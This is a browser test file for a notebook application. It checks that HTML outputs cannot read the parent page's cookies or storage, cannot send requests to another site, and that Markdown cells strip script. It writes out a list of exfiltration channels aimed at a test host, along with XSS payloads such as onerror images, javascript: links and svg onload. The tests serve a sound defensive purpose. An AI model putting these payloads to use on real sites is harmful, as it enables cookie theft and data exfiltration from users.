import type { ForeignServer } from "./foreign.ts";
import { NotebookPage } from "./notebook.ts";
import { expect, test } from "./test.ts";

// What an attack tries is refused, and the browser says so in the console.
test.use({ allowedErrors: /.*/s });

/** Ways out of an output: each must end without a request reaching the other site. */
const CHANNELS: Readonly<Record<string, (canary: string) => string>> = {
  fetch: (url) => `fetch("${url}").catch(() => {})`,
  image: (url) => `new Image().src = "${url}"`,
  style: (url) => `document.body.style.background = "url(${url})"`,
  script: (url) => `document.body.append(Object.assign(document.createElement("script"), { src: "${url}" }))`,
  beacon: (url) => `navigator.sendBeacon("${url}")`,
  events: (url) => `new EventSource("${url}")`,
  socket: (url) => `new WebSocket("${url.replace("http", "ws")}")`,
  prefetch: (url) =>
    `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "${url}" }))`,
  frame: (url) => `document.body.append(Object.assign(document.createElement("iframe"), { src: "${url}" }))`,
  form: (url) => `const f = document.createElement("form"); f.action = "${url}"; document.body.append(f); f.submit()`,
  popup: (url) => `window.open("${url}")`,
  top: (url) => `top.location = "${url}"`,
  self: (url) => `setTimeout(() => location = "${url}", 300)`,
};

test("an HTML output cannot reach the page, its cookies or its storage", async ({ page }) => {
  const notebook = new NotebookPage(page);
  await notebook.open();
  await page.evaluate(() => {
    document.cookie = "secret=crumb";
    localStorage.setItem("secret", "kept");
  });
  await notebook.run(
    1,
    html(`
      <pre id="report"></pre>
      <script>
        const tries = {
          cookie: () => parent.document.cookie,
          ownCookie: () => document.cookie,
          storage: () => localStorage.getItem("secret"),
          parentStorage: () => parent.localStorage.getItem("secret"),
          page: () => parent.document.body.innerHTML.length,
          database: () => indexedDB.open("x").result,
        };
        const report = Object.entries(tries).map(([name, attempt]) => {
          try { return name + "=" + attempt(); } catch (error) { return name + " refused"; }
        });
        document.getElementById("report").textContent = report.join(", ");
      </script>`),
  );
  const report = notebook.output(1).locator("iframe").contentFrame().locator("#report");
  await expect(report).toContainText("cookie refused");
  const text = await report.textContent();
  expect(text).not.toMatch(/crumb|kept|page=\d/);
});

test("an HTML output cannot send anything to another site", async ({ page, foreign }) => {
  const notebook = new NotebookPage(page);
  await notebook.open();
  const scripts = Object.entries(CHANNELS).map(([name, code]) => `try { ${code(foreign.canary(name))} } catch {}`);
  await notebook.run(1, html(`<p>shown</p><script>${scripts.join("\n")}</script>`));
  await page.waitForTimeout(2000);
  expect(hits(foreign)).toEqual({});
  await expect(notebook.main).toBeVisible();
});

test("Markdown is shown without anything that could run or call home", async ({ page, foreign }) => {
  const notebook = new NotebookPage(page);
  await notebook.open();
  await page.evaluate(() => Object.assign(window, { attacked: 0 }));
  const attack = [
    '<img src="x" onerror="attacked++">',
    "<script>attacked++</script>",
    "[link](javascript:attacked++)",
    '<a href="javascript:attacked++">raw link</a>',
    '<svg onload="attacked++"></svg>',
    '<iframe srcdoc="<script>parent.attacked++</script>"></iframe>',
    `<form action="${foreign.canary("image")}"><button>press</button></form>`,
    `<style>* { background: url(${foreign.canary("style")}) }</style>`,
    "**safe**",
  ].join("\n\n");
  await notebook.write(1, attack);
  await page.keyboard.press("Escape");
  await page.keyboard.press("m");
  await page.keyboard.press("Shift+Enter");
  await expect(notebook.cell(1).getByText("safe")).toBeVisible();
  const found = await notebook.cell(1).evaluate((cell) => ({
    handlers: cell.querySelectorAll("[onerror], [onload], script, iframe, form").length,
    links: cell.querySelectorAll('a[href^="javascript:"]').length,
    attacked: (window as unknown as { attacked: number }).attacked,
  }));
  expect(found).toEqual({ handlers: 0, links: 0, attacked: 0 });
  expect(hits(foreign)).toEqual({});
});

test("text that looks like HTML is shown as text", async ({ page }) => {
  const notebook = new NotebookPage(page);
  await notebook.open();
  await expect(await notebook.run(1, "print('<b onclick=\"x\">not bold</b>')")).toHaveText(
    '<b onclick="x">not bold</b>',
  );
});

function html(markup: string): string {
  return `class Html:\n    def _repr_html_(self): return ${JSON.stringify(markup)}\nHtml()`;
}

function hits(foreign: ForeignServer): Record<string, number> {
  return Object.fromEntries(
    Object.keys(CHANNELS)
      .map((name) => [name, foreign.hits(name)] as const)
      .filter(([, count]) => count > 0),
  );
}
